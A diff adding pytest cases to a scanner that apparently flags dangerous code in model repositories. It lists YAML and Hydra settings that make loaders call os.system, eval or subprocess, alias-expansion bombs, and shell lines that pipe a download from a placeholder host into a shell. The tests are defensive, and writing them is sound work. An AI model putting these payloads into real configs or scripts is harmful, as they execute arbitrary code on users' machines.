@@ -63,6 +63,8 @@ SPELLINGS = {
     "built-ins": "__builtins__['__import__']('os').system('x')",
     "globals": "globals()['__builtins__'].__import__('os').system('x')",
     "attrgetter": "import os, operator\noperator.attrgetter('system')(os)('x')",
+    "methodcaller": "import os, operator\noperator.methodcaller('system', 'x')(os)",
+    "methodcaller by a name": "import os\nfrom operator import methodcaller as m\nf = m('sys' + 'tem', 'x')\nf(os)",
     "partial": "import os, functools\nfunctools.partial(os.system, 'x')()",
     "conditional": "import os\n(os.system if True else print)('x')",
 }
@@ -357,3 +359,154 @@ def test_a_notebook_of_another_language_holds_no_python() -> None:
 def test_a_broken_notebook_is_an_error_not_clean() -> None:
     for data in (b'{"cells": [', b'{"cells": 3}', b"[]"):
         assert scan_memory(plugin, {"a.ipynb": data}).answers["code-dangerous-call"] == Outcome.ERROR
+
+
+# Settings whose loader calls what they name.
+
+DANGEROUS_SETTINGS = {
+    "apply": "hook: !apply:os.system [id]",
+    "apply in flow": "{a: [1, !apply:subprocess.run {args: id}]}",
+    "new": "x: !new:posix.system [id]",
+    "name": "x: !name:builtins.eval",
+    "python apply": "!!python/object/apply:os.system [id]",
+    "python new": "- !!python/object/new:subprocess.Popen [[id]]",
+    "python name": "a: !!python/name:os.system ''",
+    "python module": "a: !!python/module:subprocess ''",
+    "a verbatim tag": "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]",
+    "an escaped tag": "a: !apply:os%2Esystem [id]",
+    "a tag by its handle": "%TAG !e! tag:yaml.org,2002:python/object/apply:\n---\n!e!os.system [id]",
+    "a tag on a key": "? !apply:os.system [id]\n: 1",
+    "a second document": "a: 1\n---\nb: !apply:os.system [id]",
+    "target": "model:\n  _target_: os.system\n  command: id",
+    "target without a module": "{_target_: eval, _args_: [x]}",
+    "target by an alias": "x: &x os.system\n_target_: *x",
+    "key by an alias": "x: &k _target_\n*k : os.system",
+    "quoted": "\"_tar\\x67et_\": 'os.system'",
+    "latent diffusion's": "model: {target: subprocess.Popen, params: {args: id}}",
+    "of a known library": "_target_: torch.hub.load",
+    "an unpickler": "_target_: joblib.load",
+    "by another name": "_target_: pydoc.locate",
+}
+
+
+def told(data: str | bytes, path: str = "config.yaml") -> list[tuple[str, Severity]]:
+    report = scan_memory(plugin, {path: data.encode() if isinstance(data, str) else data})
+    found = [item for item in report.seen if isinstance(item, Finding)]
+    assert {item.outcome for item in found} <= {Outcome.TRUE}, found
+    return [(item.rule, item.severity) for item in found]
+
+
+@pytest.mark.parametrize("name", DANGEROUS_SETTINGS)
+def test_settings_that_name_a_dangerous_callable_are_high(name: str) -> None:
+    assert told(DANGEROUS_SETTINGS[name]) == [("code-dangerous-call", Severity.HIGH)]
+
+
+HONEST_SETTINGS = {
+    "a known class": "_target_: torch.optim.AdamW\nlr: 1e-3",
+    "nemo": "preprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor",
+    "speechbrain": "a: !new:speechbrain.nnet.linear.Linear\nb: !ref <a>\nc: !name:torch.optim.Adam\nd: !apply:torch.manual_seed [1]",
+    "a target of another kind": "target: prod\ntargets: [a, b]\nmake: {target: build.all}",
+    "plain python": "a: !!python/tuple [1, 2]\nb: !!python/dict {}",
+    "words": "note: run _target_ os.system\ncommand: '!apply:os.system'",
+    "a mapping's key": "os.system: _target_",
+    "a path": "a: !apply:os.path.join [a, b]",
+}
+
+
+@pytest.mark.parametrize("name", HONEST_SETTINGS)
+def test_honest_settings_are_left_alone(name: str) -> None:
+    assert told(HONEST_SETTINGS[name]) == []
+
+
+@pytest.mark.parametrize("settings", ["_target_: my_package.Model", "x: !new:custom_model.Net", "_target_: ${name}"])
+def test_settings_that_name_an_unknown_package_are_low(settings: str) -> None:
+    assert told(settings) == [("code-dangerous-call", Severity.LOW)]
+
+
+def test_a_target_in_json_is_judged_as_in_yaml() -> None:
+    assert told('{"model": {"_target_": "os.sys' + 'tem"}}', "config.json") == [("code-dangerous-call", Severity.HIGH)]
+
+
+@pytest.mark.parametrize("broken", ["a: [1", "a: \t- b: }", "a: 'x", "a: \x01", "%TAG !\n---\n"])
+def test_settings_that_do_not_parse_are_an_error_not_clean(broken: str) -> None:
+    assert scan_memory(plugin, {"a.yaml": broken.encode()}).answers["code-dangerous-call"] is Outcome.ERROR
+
+
+def test_hostile_yaml_takes_no_more_than_its_share_of_time() -> None:
+    bomb = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 60))
+    started = time.process_time()
+    for data in (bomb, "[" * 100_000, "- " * 100_000, "a: &a *a\n", "? " * 50_000, "{" * 50_000):
+        scan_memory(plugin, {"a.yaml": data.encode()})
+    assert time.process_time() - started < 10
+
+
+# Adapters.
+
+
+@pytest.mark.parametrize("library", ["own_model.modeling", "transformers_modules.org.name", "evil"])
+def test_an_adapters_mapping_to_a_package_of_its_own_is_remote_code(library: str) -> None:
+    found = configured({"auto_mapping": {"base_model_class": "M", "parent_library": library}}, "adapter_config.json")
+    assert [(item.outcome, item.severity) for item in found] == [(Outcome.TRUE, Severity.HIGH)]
+    assert library in found[0].message
+
+
+@pytest.mark.parametrize("library", ["transformers.models.llama.modeling_llama", "timm.models.vit", None])
+def test_an_adapters_mapping_to_a_known_library_is_left_alone(library: str | None) -> None:
+    mapping = {"base_model_class": "M", "parent_library": library}
+    assert configured({"auto_mapping": mapping}, "adapter_config.json") == []
+    assert configured({"auto_mapping": None}, "adapter_config.json") == []
+
+
+# Scripts.
+
+RUNS_DOWNLOAD = {
+    "a pipe": "curl -sSL https://a.invalid/x.sh | bash -s -- --yes",
+    "a pipe by sudo": "wget -qO- 'https://a.invalid/?a=1&b=2' | sudo -E /bin/sh",
+    "through another command": "curl https://a.invalid/x.gz | gunzip | python3 -",
+    "over two lines": "curl https://a.invalid/x.sh \\\n  --silent |\n  sh",
+    "substituted": "bash <(curl -s https://a.invalid/x.sh)",
+    "sourced": "source <(curl -s https://a.invalid/x.sh)",
+    "as a word": 'sh -c "$(curl -fsSL https://a.invalid/x.sh)"',
+    "evaluated": "set -e; eval `wget -qO- https://a.invalid`",
+    "hidden": "echo ZWNobyBo | base64 -d | sh",
+    "in a condition": "if true; then curl https://a.invalid | sh; fi",
+    "in PowerShell": "iex (iwr https://a.invalid/x.ps1)",
+}
+
+
+@pytest.mark.parametrize("name", RUNS_DOWNLOAD)
+def test_a_script_that_runs_what_it_downloads_is_medium(name: str) -> None:
+    expected = [("code-dangerous-call", Severity.MEDIUM)]
+    assert told(f"#!/bin/sh\n{RUNS_DOWNLOAD[name]}\n", "setup.sh") == expected
+    assert told(f"#!/bin/bash\n{RUNS_DOWNLOAD[name]}\n", "setup") == expected
+    assert told(f"FROM base\nRUN {RUNS_DOWNLOAD[name]}\n", "docker/Dockerfile") == expected
+
+
+def test_a_python_script_under_a_shells_name_is_read_as_python() -> None:
+    assert told("#!/usr/bin/env python3\nimport os\nos.system('x')\n", "run.sh") == [
+        ("code-dangerous-call", Severity.HIGH)
+    ]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -LO https://a.invalid/weights.tar",
+        "true\n# curl https://a.invalid | sh",
+        "curl https://a.invalid | tee log | grep sha",
+        "curl -s https://a.invalid | jq .name && bash run.sh",
+        "wget https://a.invalid/data || python train.py",
+        "python train.py | tee log",
+        "cat list | shuf | sha256sum",
+    ],
+)
+def test_an_honest_script_is_left_alone(line: str) -> None:
+    assert told(f"#!/bin/sh\n{line}\n", "train.sh") == []
+    assert told(f"FROM base\nLABEL how='curl https://a.invalid | sh'\nRUN {line}\n", "Dockerfile") == []
+
+
+def test_hostile_scripts_take_no_more_than_their_share_of_time() -> None:
+    started = time.process_time()
+    for word in ("curl ", "curl|", "sudo -x ", "sh -c ", "a=b ", "iex ", "ncat ", "base64 -d ", "pip install ", "\\\n"):
+        scan_memory(plugin, {"a.sh": (word * (1_000_000 // len(word))).encode()})
+    assert time.process_time() - started < 10
